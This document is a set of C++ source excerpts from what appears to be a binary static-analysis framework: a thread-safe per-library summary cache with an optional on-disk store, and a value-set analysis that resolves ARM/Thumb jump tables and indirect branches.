  out += to_json(precision_report(program, index));
  out += '}';
  return out;
}

std::string explain(const Program& program, const SummaryIndex& index) {
  std::string out;
  char buf[96];
  for (const auto& [entry, fn] : program.functions) {
    const TaintSummary* s = index.find(entry);
    std::snprintf(buf, sizeof buf, "%s @0x%x %s:", fn.name.c_str(), entry,
                  fn.thumb ? "thumb" : "arm");
    out += buf;
    if (s != nullptr) {
      out += " mem=";
      out += to_string(s->mem_kind);
      if (s->transparent) {
        out += " transparent\n";
        continue;
      }
      if (s->opaque()) out += " OPAQUE";
    }
    std::snprintf(buf, sizeof buf,
                  " branches=%u/%u calls=%u/%u\n",
                  fn.resolved_indirect_branches,
                  fn.resolved_indirect_branches +
                      fn.unresolved_indirect_branches,
                  fn.resolved_indirect_calls,
                  fn.resolved_indirect_calls + fn.unresolved_indirect_calls);
    out += buf;
    for (const DegradeSite& site : fn.degrade_sites) {
      std::snprintf(buf, sizeof buf, "  degraded @0x%x: %s\n", site.pc,
                    to_string(site.reason));
      out += buf;
    }
    if (s != nullptr) synthesize_reasons(out, fn, *s, "  ");
  }
  return out;
}

}  // namespace ndroid::static_analysis
