// Process-wide, concurrency-safe cache of per-library static analysis
// artifacts (the center of the analysis farm, src/farm).
//
// Keyed by library content hash (library_key): the first caller to meet a
// distinct library lifts it and publishes an immutable shared_ptr snapshot;
// every concurrent and later caller for the same key blocks until the
// snapshot is ready and then shares it. Exactly one lift happens per key no
// matter how many workers race on first access — the lift runs outside the
// cache-wide lock, so concurrent lifts of *different* libraries proceed in
// parallel.
//
// acquire() also performs the per-process binding step: a snapshot lifted at
// the requesting process's load base is returned as-is (zero-copy); a
// mismatched base triggers a relocation copy (counted in Stats::rebinds and
// never published back, so the canonical snapshot stays pristine).
#pragma once

#include <condition_variable>
#include <functional>
#include <memory>
#include <mutex>
#include <unordered_map>

#include "static/library_summary.h"

namespace ndroid::static_analysis {

class SummaryCache {
 public:
  struct Stats {
    u64 hits = 0;     // acquire() served from a published snapshot
    u64 misses = 0;   // acquire() had to lift (== number of lifts started)
    u64 rebinds = 0;  // snapshot relocated to a different load base

    [[nodiscard]] double hit_rate() const {
      const u64 total = hits + misses;
      return total == 0 ? 0.0
                        : static_cast<double>(hits) / static_cast<double>(total);
    }
  };

  SummaryCache() = default;
  SummaryCache(const SummaryCache&) = delete;
  SummaryCache& operator=(const SummaryCache&) = delete;

  /// Returns the library's artifact bound to `base`, lifting it via `lift`
  /// if this is the first acquire for `key`. Thread-safe; `lift` is invoked
  /// at most once per key across all threads (on the first caller's thread,
  /// with no cache lock held). If `lift` throws, the in-flight slot is
  /// abandoned so a later acquire can retry, and the exception propagates.
  std::shared_ptr<const LibrarySummary> acquire(
      u64 key, GuestAddr base, const std::function<LibrarySummary()>& lift);

  [[nodiscard]] Stats stats() const;
  [[nodiscard]] std::size_t size() const;
  /// Drops every snapshot and zeroes the counters (benchmark cold starts).
  void clear();

 private:
  struct Slot {
    std::mutex m;
    std::condition_variable cv;
    bool ready = false;
    bool failed = false;
    std::shared_ptr<const LibrarySummary> lib;
  };

  mutable std::mutex mu_;
  std::unordered_map<u64, std::shared_ptr<Slot>> slots_;
  Stats stats_;
};

}  // namespace ndroid::static_analysis
