// Process-wide, concurrency-safe cache of per-library static analysis
// artifacts (the center of the analysis farm, src/farm).
//
// Keyed by library content hash (library_key): the first caller to meet a
// distinct library lifts it and publishes an immutable shared_ptr snapshot;
// every concurrent and later caller for the same key blocks until the
// snapshot is ready and then shares it. Exactly one lift happens per key no
// matter how many workers race on first access — the lift runs outside the
// cache-wide lock, so concurrent lifts of *different* libraries proceed in
// parallel.
//
// acquire() also performs the per-process binding step: a snapshot lifted at
// the requesting process's load base is returned as-is (zero-copy); a
// mismatched base triggers a relocation copy (counted in Stats::rebinds and
// never published back, so the canonical snapshot stays pristine).
//
// With a persistent SummaryStore attached (set_store), the cache becomes
// the in-memory tier of a two-level hierarchy: a first-acquire miss
// consults the on-disk store before lifting (Stats::store_hits), a fresh
// lift is written back (Stats::store_writes), and warm_from_store()
// pre-publishes every on-disk entry — the farm supervisor calls it before
// forking worker processes so every worker inherits a fully warmed cache
// through copy-on-write memory.
#pragma once

#include <condition_variable>
#include <functional>
#include <memory>
#include <mutex>
#include <unordered_map>

#include "static/library_summary.h"

namespace ndroid::static_analysis {

class SummaryStore;

class SummaryCache {
 public:
  struct Stats {
    u64 hits = 0;     // acquire() served from a published snapshot
    u64 misses = 0;   // acquire() not served from memory (store load or lift)
    u64 rebinds = 0;  // snapshot relocated to a different load base
    /// Acquires whose artifact originated from the persistent store (a
    /// direct on-miss load, or a hit on a slot published by the store /
    /// warm_from_store). Zero when no store is attached.
    u64 store_hits = 0;
    u64 store_writes = 0;  // fresh lifts written back to the store

    [[nodiscard]] double hit_rate() const {
      const u64 total = hits + misses;
      return total == 0 ? 0.0
                        : static_cast<double>(hits) / static_cast<double>(total);
    }
  };

  SummaryCache() = default;
  SummaryCache(const SummaryCache&) = delete;
  SummaryCache& operator=(const SummaryCache&) = delete;

  /// Returns the library's artifact bound to `base`, lifting it via `lift`
  /// if this is the first acquire for `key`. Thread-safe; `lift` is invoked
  /// at most once per key across all threads (on the first caller's thread,
  /// with no cache lock held). If `lift` throws, the in-flight slot is
  /// abandoned so a later acquire can retry, and the exception propagates.
  std::shared_ptr<const LibrarySummary> acquire(
      u64 key, GuestAddr base, const std::function<LibrarySummary()>& lift);

  /// Attaches (or detaches, nullptr) the persistent backing store. The
  /// store must outlive the cache. Not synchronised against in-flight
  /// acquires — attach before handing the cache to workers.
  void set_store(SummaryStore* store) { store_ = store; }
  [[nodiscard]] SummaryStore* store() const { return store_; }

  /// Publishes every entry the store currently holds (corrupt entries are
  /// skipped). Returns the number of snapshots published. Call before
  /// forking workers: the decoded snapshots ride into every child via
  /// copy-on-write pages, so no worker pays the decode again.
  std::size_t warm_from_store();

  [[nodiscard]] Stats stats() const;
  [[nodiscard]] std::size_t size() const;
  /// Drops every snapshot and zeroes the counters (benchmark cold starts).
  void clear();

 private:
  struct Slot {
    std::mutex m;
    std::condition_variable cv;
    bool ready = false;
    bool failed = false;
    bool from_store = false;  // artifact came off disk, not a local lift
    std::shared_ptr<const LibrarySummary> lib;
  };

  mutable std::mutex mu_;
  std::unordered_map<u64, std::shared_ptr<Slot>> slots_;
  Stats stats_;
  SummaryStore* store_ = nullptr;
};

}  // namespace ndroid::static_analysis
