#include "static/vsa.h"

#include <algorithm>
#include <bit>
#include <numeric>

namespace ndroid::static_analysis {

using arm::Cond;
using arm::Insn;
using arm::Op;
using arm::ShiftType;

namespace {

constexpr u8 kRegSP = 13;
constexpr u8 kRegPC = 15;

u8 advance_it(u8 it) {
  return (it & 0x07) == 0 ? u8{0}
                          : static_cast<u8>((it & 0xE0) | ((it << 1) & 0x1F));
}

bool is_dp(Op op) {
  switch (op) {
    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kOrr:
    case Op::kMov:
    case Op::kBic:
    case Op::kMvn:
      return true;
    default:
      return false;
  }
}

bool dp_writes_rd(Op op) {
  switch (op) {
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
      return false;
    default:
      return true;
  }
}

bool is_abs(const AbsVal& v) {
  return v.kind == AbsVal::Kind::kConst || v.kind == AbsVal::Kind::kImageRel;
}

/// a + b over strided sets. Kind algebra: const+const=const,
/// const+imgrel=imgrel, const+stack=stack (singletons only), everything else
/// (imgrel+imgrel, anything with arg/top) is ⊤. At most one side may be a
/// non-singleton set (sum of two sets is not strided in general).
AbsVal add_sets(const AbsVal& a, const AbsVal& b) {
  using K = AbsVal::Kind;
  K kind;
  if (a.kind == K::kConst && b.kind == K::kConst) {
    kind = K::kConst;
  } else if ((a.kind == K::kConst && b.kind == K::kImageRel) ||
             (a.kind == K::kImageRel && b.kind == K::kConst)) {
    kind = K::kImageRel;
  } else if ((a.kind == K::kConst && b.kind == K::kStackRel) ||
             (a.kind == K::kStackRel && b.kind == K::kConst)) {
    kind = K::kStackRel;
  } else {
    return AbsVal::top();
  }
  if (!a.is_singleton() && !b.is_singleton()) return AbsVal::top();
  if (kind == K::kStackRel && !(a.is_singleton() && b.is_singleton())) {
    return AbsVal::top();  // strided stack windows are not tracked
  }
  const AbsVal& set = a.is_singleton() ? b : a;
  return {kind, a.base + b.base, set.stride, set.count};
}

/// a - b. ImageRel - ImageRel cancels the base (a plain distance).
AbsVal sub_sets(const AbsVal& a, const AbsVal& b) {
  using K = AbsVal::Kind;
  if (a.kind == K::kImageRel && b.kind == K::kImageRel && a.is_singleton() &&
      b.is_singleton()) {
    return AbsVal::const_(a.base - b.base);
  }
  if (b.kind != K::kConst || !b.is_singleton()) return AbsVal::top();
  if (a.kind == K::kConst || a.kind == K::kImageRel) {
    return {a.kind, a.base - b.base, a.stride, a.count};
  }
  if (a.kind == K::kStackRel && a.is_singleton()) {
    return AbsVal::stack_rel(static_cast<i32>(a.base - b.base));
  }
  return AbsVal::top();
}

/// v << n. Exact on const sets (strides scale); everything else is ⊤.
AbsVal lsl_set(const AbsVal& v, u32 n) {
  if (n == 0) return v;
  if (n >= 32) return AbsVal::const_(0);
  if (v.kind != AbsVal::Kind::kConst) return AbsVal::top();
  return {v.kind, v.base << n, v.stride << n, v.count};
}

AbsVal apply_shift(const AbsVal& v, ShiftType type, u32 n) {
  switch (type) {
    case ShiftType::kLSL:
      return lsl_set(v, n);
    case ShiftType::kLSR:
      if (n >= 32) return AbsVal::const_(0);
      if (v.kind == AbsVal::Kind::kConst && v.is_singleton()) {
        return AbsVal::const_(v.base >> n);
      }
      return AbsVal::top();
    case ShiftType::kASR:
      if (v.kind == AbsVal::Kind::kConst && v.is_singleton()) {
        return AbsVal::const_(static_cast<u32>(static_cast<i32>(v.base) >>
                                               std::min<u32>(n, 31)));
      }
      return AbsVal::top();
    default:
      return AbsVal::top();  // ROR/RRX: not needed for resolution
  }
}

/// Lowest byte offset touched by an LDM/STM given the decoded P/U bits.
i32 block_transfer_lo(const AbsVal& base, u32 regs, bool increment,
                      bool before) {
  const i32 b = static_cast<i32>(base.base);
  if (increment) return b + (before ? 4 : 0);
  return b - static_cast<i32>(4 * regs) + (before ? 0 : 4);
}

/// Writes one tracked stack word. Conditional stores join with the
/// incumbent; an unknown incumbent (untracked slot) joins to ⊤, i.e. stays
/// untracked.
void slot_store(VsaState& st, i32 off, const AbsVal& v, bool conditional) {
  auto it = st.slots.find(off);
  if (it != st.slots.end()) {
    it->second = conditional ? join(it->second, v) : v;
    if (it->second.is_top()) st.slots.erase(it);
    return;
  }
  if (conditional || v.is_top()) return;
  if (st.slots.size() >= Vsa::kMaxTrackedSlots) return;
  st.slots.emplace(off, v);
}

/// Kills every tracked word overlapping the byte range [lo, hi) (sub-word or
/// unaligned frame stores).
void slot_kill_range(VsaState& st, i32 lo, i32 hi) {
  for (auto it = st.slots.lower_bound(lo - 3);
       it != st.slots.end() && it->first < hi;) {
    it = st.slots.erase(it);
  }
}

}  // namespace

AbsVal join(const AbsVal& a, const AbsVal& b) {
  using K = AbsVal::Kind;
  if (a.kind == K::kBottom) return b;
  if (b.kind == K::kBottom) return a;
  if (a == b) return a;
  if (a.kind != b.kind || !is_abs(a)) return AbsVal::top();
  // Smallest strided superset: gcd of both strides and the base distance.
  const u64 span_a = static_cast<u64>(a.stride) * (a.count - 1);
  const u64 span_b = static_cast<u64>(b.stride) * (b.count - 1);
  if (static_cast<u64>(a.base) + span_a > 0xFFFFFFFFull ||
      static_cast<u64>(b.base) + span_b > 0xFFFFFFFFull) {
    return AbsVal::top();  // wrapped sets are not ordered; give up
  }
  const u32 lo = std::min(a.base, b.base);
  const u64 hi = std::max(a.base + span_a, b.base + span_b);
  u32 g = std::gcd(a.stride, b.stride);
  g = std::gcd(g, a.base > b.base ? a.base - b.base : b.base - a.base);
  if (g == 0) return {a.kind, lo, 0, 1};
  const u64 count = (hi - lo) / g + 1;
  if (count > Vsa::kMaxValueCount) return AbsVal::top();
  return {a.kind, lo, count == 1 ? 0u : g, static_cast<u32>(count)};
}

bool VsaState::join_from(const VsaState& other, bool widen) {
  bool changed = false;
  for (std::size_t r = 0; r < regs.size(); ++r) {
    const AbsVal j = widen
                         ? (regs[r] == other.regs[r] ? regs[r] : AbsVal::top())
                         : join(regs[r], other.regs[r]);
    if (!(j == regs[r])) {
      regs[r] = j;
      changed = true;
    }
  }
  for (auto it = slots.begin(); it != slots.end();) {
    const auto o = other.slots.find(it->first);
    AbsVal j = AbsVal::top();
    if (o != other.slots.end()) {
      j = widen ? (it->second == o->second ? it->second : AbsVal::top())
                : join(it->second, o->second);
    }
    if (j.is_top()) {
      it = slots.erase(it);
      changed = true;
      continue;
    }
    if (!(j == it->second)) {
      it->second = j;
      changed = true;
    }
    ++it;
  }
  if (cmp_valid && (!other.cmp_valid || cmp_reg != other.cmp_reg ||
                    cmp_imm != other.cmp_imm)) {
    cmp_valid = false;
    changed = true;
  }
  return changed;
}

Vsa::Vsa(const mem::AddressSpace& memory, const std::vector<CodeRegion>& regions,
         GuestAddr image_base)
    : memory_(memory), regions_(regions), image_base_(image_base) {}

bool Vsa::in_code(GuestAddr addr) const {
  return std::any_of(regions_.begin(), regions_.end(),
                     [addr](const CodeRegion& r) {
                       return addr >= r.start && addr < r.end;
                     });
}

AbsVal Vsa::read_reg(const VsaState& st, u8 r, GuestAddr pc, bool thumb) const {
  if (r >= 16) return AbsVal::top();
  if (r == kRegPC) {
    // Thumb PC reads vary in alignment by instruction (ADR aligns, MOV does
    // not): stay conservative there. The explicit PC-base paths (literal
    // loads, TBB/TBH) handle Thumb themselves. ARM PC is always pc + 8.
    if (thumb) return AbsVal::top();
    return AbsVal::image_rel(pc + 8 - image_base_);
  }
  return st.regs[r];
}

AbsVal Vsa::operand2(const VsaState& st, const Insn& insn, GuestAddr pc,
                     bool thumb) const {
  if (insn.imm_operand) return AbsVal::const_(insn.imm);
  if (insn.shift_by_reg) return AbsVal::top();
  return apply_shift(read_reg(st, insn.rm, pc, thumb), insn.shift,
                     insn.shift_amount);
}

AbsVal Vsa::eval_dp(const VsaState& st, const Insn& insn, GuestAddr pc,
                    bool thumb) const {
  const AbsVal op2 = operand2(st, insn, pc, thumb);
  switch (insn.op) {
    case Op::kMov:
      return op2;
    case Op::kMvn:
      return op2.kind == AbsVal::Kind::kConst && op2.is_singleton()
                 ? AbsVal::const_(~op2.base)
                 : AbsVal::top();
    default:
      break;
  }
  const AbsVal rn = read_reg(st, insn.rn, pc, thumb);
  switch (insn.op) {
    case Op::kAdd:
      return add_sets(rn, op2);
    case Op::kSub:
      return sub_sets(rn, op2);
    case Op::kRsb:
      return sub_sets(op2, rn);
    case Op::kAnd:
    case Op::kEor:
    case Op::kOrr:
    case Op::kBic: {
      if (rn.kind != AbsVal::Kind::kConst || !rn.is_singleton() ||
          op2.kind != AbsVal::Kind::kConst || !op2.is_singleton()) {
        return AbsVal::top();
      }
      switch (insn.op) {
        case Op::kAnd: return AbsVal::const_(rn.base & op2.base);
        case Op::kEor: return AbsVal::const_(rn.base ^ op2.base);
        case Op::kOrr: return AbsVal::const_(rn.base | op2.base);
        default:       return AbsVal::const_(rn.base & ~op2.base);
      }
    }
    default:
      return AbsVal::top();  // carry-dependent forms
  }
}

AbsVal Vsa::mem_addr(const VsaState& st, const Insn& insn, GuestAddr pc,
                     bool thumb) const {
  AbsVal base;
  if (insn.rn == kRegPC) {
    // Literal addressing: base is the aligned PC, expressed image-relative
    // so literal windows re-resolve after a rebase.
    base = AbsVal::image_rel(((pc + (thumb ? 4u : 8u)) & ~3u) - image_base_);
  } else {
    base = st.regs[insn.rn];
  }
  if (!insn.pre_index) return base;
  AbsVal off;
  if (!insn.reg_offset) {
    off = AbsVal::const_(insn.imm);
  } else if (insn.shift_by_reg) {
    off = AbsVal::top();
  } else {
    off = apply_shift(read_reg(st, insn.rm, pc, thumb), insn.shift,
                      insn.shift_amount);
  }
  return insn.add_offset ? add_sets(base, off) : sub_sets(base, off);
}

void Vsa::step(VsaState& st, const Insn& insn, GuestAddr pc, bool thumb,
               bool conditional) const {
  auto define = [&](u8 r, const AbsVal& v) {
    if (r >= 16 || r == kRegPC) return;
    st.regs[r] = conditional ? join(st.regs[r], v) : v;
    if (st.cmp_valid && st.cmp_reg == r) st.cmp_valid = false;
  };

  switch (insn.op) {
    case Op::kMovw:
      define(insn.rd, AbsVal::const_(insn.imm));
      break;
    case Op::kMovt: {
      const AbsVal lo = st.regs[insn.rd];
      define(insn.rd, lo.kind == AbsVal::Kind::kConst && lo.is_singleton()
                          ? AbsVal::const_((lo.base & 0xFFFFu) |
                                           (insn.imm << 16))
                          : AbsVal::top());
      break;
    }
    case Op::kUxtb:
    case Op::kUxth: {
      const AbsVal v = read_reg(st, insn.rm, pc, thumb);
      const u32 mask = insn.op == Op::kUxtb ? 0xFFu : 0xFFFFu;
      define(insn.rd, v.kind == AbsVal::Kind::kConst && v.is_singleton()
                          ? AbsVal::const_(v.base & mask)
                          : AbsVal::top());
      break;
    }
    case Op::kMul:
    case Op::kMla:
    case Op::kSdiv:
    case Op::kUdiv:
    case Op::kClz:
    case Op::kSxtb:
    case Op::kSxth:
      define(insn.rd, AbsVal::top());
      break;
    case Op::kUmull:
    case Op::kSmull:
      define(insn.rd, AbsVal::top());
      define(insn.rn, AbsVal::top());  // RdHi
      break;
    case Op::kLdr:
    case Op::kLdrb:
    case Op::kLdrh:
    case Op::kLdrsb:
    case Op::kLdrsh:
    case Op::kStr:
    case Op::kStrb:
    case Op::kStrh: {
      const bool is_store = insn.op == Op::kStr || insn.op == Op::kStrb ||
                            insn.op == Op::kStrh;
      const u32 size = (insn.op == Op::kLdrb || insn.op == Op::kLdrsb ||
                        insn.op == Op::kStrb)
                           ? 1u
                           : (insn.op == Op::kLdrh || insn.op == Op::kLdrsh ||
                              insn.op == Op::kStrh)
                                 ? 2u
                                 : 4u;
      const AbsVal addr = mem_addr(st, insn, pc, thumb);
      if (is_store) {
        if (addr.kind == AbsVal::Kind::kStackRel && addr.is_singleton()) {
          const i32 off = static_cast<i32>(addr.base);
          if (insn.op == Op::kStr && (off & 3) == 0) {
            slot_store(st, off, read_reg(st, insn.rd, pc, thumb), conditional);
          } else {
            slot_kill_range(st, off, off + static_cast<i32>(size));
          }
        } else if (is_abs(addr) && addr.count <= kMaxTableEntries &&
                   [&] {
                     for (u32 i = 0; i < addr.count; ++i) {
                       if (!in_code(abs_member(addr, i))) return false;
                     }
                     return true;
                   }()) {
          // Store into the (non-stack) image: frame slots survive. SMC is
          // the dynamic write-watch's problem, not the static model's.
        } else {
          st.slots.clear();  // may alias the frame
        }
      } else {
        AbsVal v = AbsVal::top();
        if (addr.is_singleton()) {
          if (is_abs(addr)) {
            const u32 abs = abs_member(addr, 0);
            // Loads from inside the code image read immutable bytes
            // (literal pools, embedded tables).
            if (in_code(abs) && in_code(abs + size - 1)) {
              if (insn.op == Op::kLdr && (abs & 3) == 0) {
                v = AbsVal::const_(memory_.read32(abs));
              } else if (insn.op == Op::kLdrb) {
                v = AbsVal::const_(memory_.read8(abs));
              } else if (insn.op == Op::kLdrh && (abs & 1) == 0) {
                v = AbsVal::const_(memory_.read16(abs));
              }
            }
          } else if (addr.kind == AbsVal::Kind::kStackRel &&
                     insn.op == Op::kLdr &&
                     (static_cast<i32>(addr.base) & 3) == 0) {
            const auto it = st.slots.find(static_cast<i32>(addr.base));
            if (it != st.slots.end()) v = it->second;
          }
        }
        define(insn.rd, v);
      }
      if (!insn.pre_index || insn.writeback) {
        AbsVal base = insn.rn == kRegPC
                          ? AbsVal::top()  // writeback to PC: unpredictable
                          : st.regs[insn.rn];
        AbsVal off;
        if (!insn.reg_offset) {
          off = AbsVal::const_(insn.imm);
        } else if (insn.shift_by_reg) {
          off = AbsVal::top();
        } else {
          off = apply_shift(read_reg(st, insn.rm, pc, thumb), insn.shift,
                            insn.shift_amount);
        }
        define(insn.rn,
               insn.add_offset ? add_sets(base, off) : sub_sets(base, off));
      }
      break;
    }
    case Op::kLdm: {
      const u32 n = static_cast<u32>(std::popcount(insn.reglist));
      const AbsVal base = st.regs[insn.rn];
      const bool tracked = base.kind == AbsVal::Kind::kStackRel &&
                           base.is_singleton() && n != 0;
      const i32 lo = tracked ? block_transfer_lo(base, n, insn.base_increment,
                                                 insn.before)
                             : 0;
      u32 j = 0;
      for (u8 r = 0; r < 16; ++r) {
        if ((insn.reglist & (1u << r)) == 0) continue;
        if (r != kRegPC) {
          AbsVal v = AbsVal::top();
          if (tracked) {
            const auto it = st.slots.find(lo + static_cast<i32>(4 * j));
            if (it != st.slots.end()) v = it->second;
          }
          define(r, v);
        }
        ++j;
      }
      if (insn.writeback) {
        const AbsVal delta = AbsVal::const_(4 * n);
        define(insn.rn, insn.base_increment ? add_sets(base, delta)
                                            : sub_sets(base, delta));
      }
      break;
    }
    case Op::kStm: {
      const u32 n = static_cast<u32>(std::popcount(insn.reglist));
      const AbsVal base = st.regs[insn.rn];
      if (base.kind == AbsVal::Kind::kStackRel && base.is_singleton() &&
          n != 0) {
        const i32 lo =
            block_transfer_lo(base, n, insn.base_increment, insn.before);
        u32 j = 0;
        for (u8 r = 0; r < 16; ++r) {
          if ((insn.reglist & (1u << r)) == 0) continue;
          slot_store(st, lo + static_cast<i32>(4 * j),
                     read_reg(st, r, pc, thumb), conditional);
          ++j;
        }
      } else {
        st.slots.clear();  // may alias the frame
      }
      if (insn.writeback) {
        const AbsVal delta = AbsVal::const_(4 * n);
        define(insn.rn, insn.base_increment ? add_sets(base, delta)
                                            : sub_sets(base, delta));
      }
      break;
    }
    case Op::kBl:
    case Op::kBlxReg:
      for (u8 r : {u8{0}, u8{1}, u8{2}, u8{3}, u8{12}, u8{14}}) {
        define(r, AbsVal::top());
      }
      st.slots.clear();  // the callee may write through saved pointers
      st.cmp_valid = false;
      break;
    case Op::kSvc:
      define(0, AbsVal::top());  // kernel return value
      st.slots.clear();
      st.cmp_valid = false;
      break;
    case Op::kB:
    case Op::kBx:
    case Op::kTbb:
    case Op::kTbh:
    case Op::kIt:
    case Op::kNop:
    case Op::kUndefined:
      break;
    default:
      if (is_dp(insn.op)) {
        if (dp_writes_rd(insn.op) && insn.rd != kRegPC) {
          define(insn.rd, eval_dp(st, insn, pc, thumb));
        }
      } else {
        define(insn.rd, AbsVal::top());  // unmodelled: drop the target
      }
      break;
  }

  // Flag bookkeeping for edge refinement: any flag-setter retires the live
  // cmp context; an unconditional `cmp rN, #imm` installs a fresh one.
  const bool writes_flags = insn.set_flags || insn.op == Op::kCmp ||
                            insn.op == Op::kCmn || insn.op == Op::kTst ||
                            insn.op == Op::kTeq;
  if (writes_flags) {
    st.cmp_valid = false;
    if (insn.op == Op::kCmp && insn.imm_operand && !conditional &&
        insn.rn < 16) {
      st.cmp_valid = true;
      st.cmp_reg = insn.rn;
      st.cmp_imm = insn.imm;
    }
  }
}

void Vsa::refine_edge(VsaState& st, Cond cond) {
  if (!st.cmp_valid || st.cmp_reg >= 16) return;
  AbsVal& v = st.regs[st.cmp_reg];
  const u32 n = st.cmp_imm;
  // v := v ∩ [0, ub] — the unsigned bounds-check idiom. Refining is an
  // optional tightening: bailing out is always sound.
  auto clamp_below = [&](u32 ub) {
    if (static_cast<u64>(ub) + 1 > Vsa::kMaxValueCount) return;
    if (v.kind == AbsVal::Kind::kTop || v.kind == AbsVal::Kind::kArg) {
      v = ub == 0 ? AbsVal::const_(0)
                  : AbsVal{AbsVal::Kind::kConst, 0, 1, ub + 1};
    } else if (v.kind == AbsVal::Kind::kConst && v.stride != 0) {
      if (v.base > ub) return;  // edge infeasible; keep the wider set
      const u32 c = (ub - v.base) / v.stride + 1;
      if (c < v.count) v.count = c;
      if (v.count == 1) v.stride = 0;
    }
  };
  switch (cond) {
    case Cond::kLS:
      clamp_below(n);
      break;
    case Cond::kCC:
      if (n != 0) clamp_below(n - 1);
      break;
    case Cond::kEQ:
      if (v.kind == AbsVal::Kind::kTop || v.kind == AbsVal::Kind::kArg) {
        v = AbsVal::const_(n);
      } else if (v.kind == AbsVal::Kind::kConst && v.stride != 0 &&
                 n >= v.base && (n - v.base) % v.stride == 0 &&
                 (n - v.base) / v.stride < v.count) {
        v = AbsVal::const_(n);
      }
      break;
    default:
      break;  // lower bounds do not tighten a [0, ub] strided set
  }
}

std::map<GuestAddr, VsaState> Vsa::analyze(const FunctionCfg& fn) const {
  std::map<GuestAddr, VsaState> in;
  if (fn.blocks.find(fn.entry) == fn.blocks.end()) return in;
  VsaState entry;
  for (u8 i = 0; i < 4; ++i) entry.regs[i] = AbsVal::arg(i);
  entry.regs[kRegSP] = AbsVal::stack_rel(0);
  in.emplace(fn.entry, std::move(entry));

  std::map<GuestAddr, u32> joins;
  std::vector<GuestAddr> work{fn.entry};
  // Termination comes from widening; the budget is a belt-and-braces valve.
  u64 budget = 64ull * (fn.blocks.size() + 1) * (kWidenLimit + 2);
  while (!work.empty() && budget-- != 0) {
    const GuestAddr start = work.back();
    work.pop_back();
    const auto bit = fn.blocks.find(start);
    if (bit == fn.blocks.end()) continue;
    const BasicBlock& bb = bit->second;
    VsaState st = in.at(start);

    u8 itstate = 0;
    GuestAddr pc = bb.start;
    Cond last_cond = Cond::kAL;
    GuestAddr last_pc = bb.start;
    const Insn* last = nullptr;
    for (const Insn& insn : bb.insns) {
      const bool under_it = itstate != 0 && insn.op != Op::kIt;
      const Cond cond = under_it ? static_cast<Cond>(itstate >> 4) : insn.cond;
      if (insn.op == Op::kIt) {
        itstate = static_cast<u8>(insn.imm);
      } else if (under_it) {
        itstate = advance_it(itstate);
      }
      last = &insn;
      last_cond = cond;
      last_pc = pc;
      step(st, insn, pc, fn.thumb, cond != Cond::kAL);
      pc += insn.length;
    }

    // Edge refinement on a conditional direct branch: the taken edge gets
    // the branch condition, the fall-through its inverse (cond codes pair
    // via bit 0).
    const bool cond_branch =
        last != nullptr && last->op == Op::kB && last_cond != Cond::kAL;
    const GuestAddr taken =
        cond_branch ? last_pc + (fn.thumb ? 4u : 8u) +
                          static_cast<u32>(last->branch_offset)
                    : 0;
    for (GuestAddr succ : bb.succs) {
      if (fn.blocks.find(succ) == fn.blocks.end()) continue;
      VsaState out = st;
      if (cond_branch && st.cmp_valid) {
        if (succ == taken) {
          refine_edge(out, last_cond);
        } else if (succ == bb.end) {
          refine_edge(out, static_cast<Cond>(static_cast<u8>(last_cond) ^ 1));
        }
      }
      const auto [slot, inserted] = in.emplace(succ, out);
      if (inserted) {
        work.push_back(succ);
        continue;
      }
      u32& count = joins[succ];
      ++count;
      if (slot->second.join_from(out, count > kWidenLimit)) {
        work.push_back(succ);
      }
    }
  }
  return in;
}

Vsa::ResolvedJump Vsa::resolve_jump(const VsaState& st0, const Insn& insn,
                                    GuestAddr pc, bool thumb,
                                    Cond cond) const {
  ResolvedJump out;
  VsaState st = st0;
  // Conditional indirect terminator (`cmp; ldrls pc, [...]`): the branch
  // only executes under its condition, so the live cmp context bounds the
  // index on this path.
  if (cond != Cond::kAL) refine_edge(st, cond);
  auto add_target = [&](GuestAddr t) {
    if (std::find(out.targets.begin(), out.targets.end(), t) ==
        out.targets.end()) {
      out.targets.push_back(t);
    }
  };

  switch (insn.op) {
    case Op::kTbb:
    case Op::kTbh: {
      const bool half = insn.op == Op::kTbh;
      const AbsVal base = insn.rn == kRegPC
                              ? AbsVal::image_rel(pc + 4 - image_base_)
                              : st.regs[insn.rn];
      const AbsVal idx = insn.rm < 16 ? st.regs[insn.rm] : AbsVal::top();
      if (!is_abs(base) || !base.is_singleton()) return out;
      if (idx.kind != AbsVal::Kind::kConst || idx.count > kMaxTableEntries) {
        return out;
      }
      const u32 tbase = abs_member(base, 0);
      for (u32 i = 0; i < idx.count; ++i) {
        const u32 index = idx.member(i);
        const u32 ea = tbase + (half ? index * 2 : index);
        if (!in_code(ea) || (half && !in_code(ea + 1))) return out;
        const u32 entry = half ? memory_.read16(ea) : memory_.read8(ea);
        const GuestAddr target = pc + 4 + 2 * entry;
        if (!in_code(target)) return out;
        add_target(target);
      }
      out.resolved = true;
      out.table = {half ? JumpTableKind::kTbh : JumpTableKind::kTbb, tbase,
                   idx.count,
                   insn.rn == kRegPC || base.kind == AbsVal::Kind::kImageRel};
      return out;
    }
    case Op::kLdr: {  // LDR pc, [table + index]
      const AbsVal addr = mem_addr(st, insn, pc, thumb);
      if (!is_abs(addr) || addr.count > kMaxTableEntries) return out;
      for (u32 i = 0; i < addr.count; ++i) {
        const u32 ea = abs_member(addr, i);
        if ((ea & 3) != 0 || !in_code(ea) || !in_code(ea + 3)) return out;
        const u32 word = memory_.read32(ea);
        // Loads to PC interwork: bit 0 selects the mode. Cross-mode edges
        // would leave this function's decode mode — treat as unresolved.
        if (((word & 1) != 0) != thumb) return out;
        const GuestAddr target = word & ~1u;
        if (!thumb && (word & 3) != 0) return out;
        if (!in_code(target)) return out;
        add_target(target);
      }
      out.resolved = true;
      out.table = {JumpTableKind::kWordTable, abs_member(addr, 0), addr.count,
                   addr.kind == AbsVal::Kind::kImageRel};
      return out;
    }
    case Op::kBx: {
      const AbsVal v = insn.rm < 16 ? st.regs[insn.rm] : AbsVal::top();
      if (!is_abs(v) || !v.is_singleton()) return out;
      const u32 raw = abs_member(v, 0);
      if (((raw & 1) != 0) != thumb) return out;
      const GuestAddr target = raw & ~1u;
      if (!thumb && (raw & 3) != 0) return out;
      if (!in_code(target)) return out;
      add_target(target);
      out.resolved = true;
      out.table = {JumpTableKind::kComputed, target, 1,
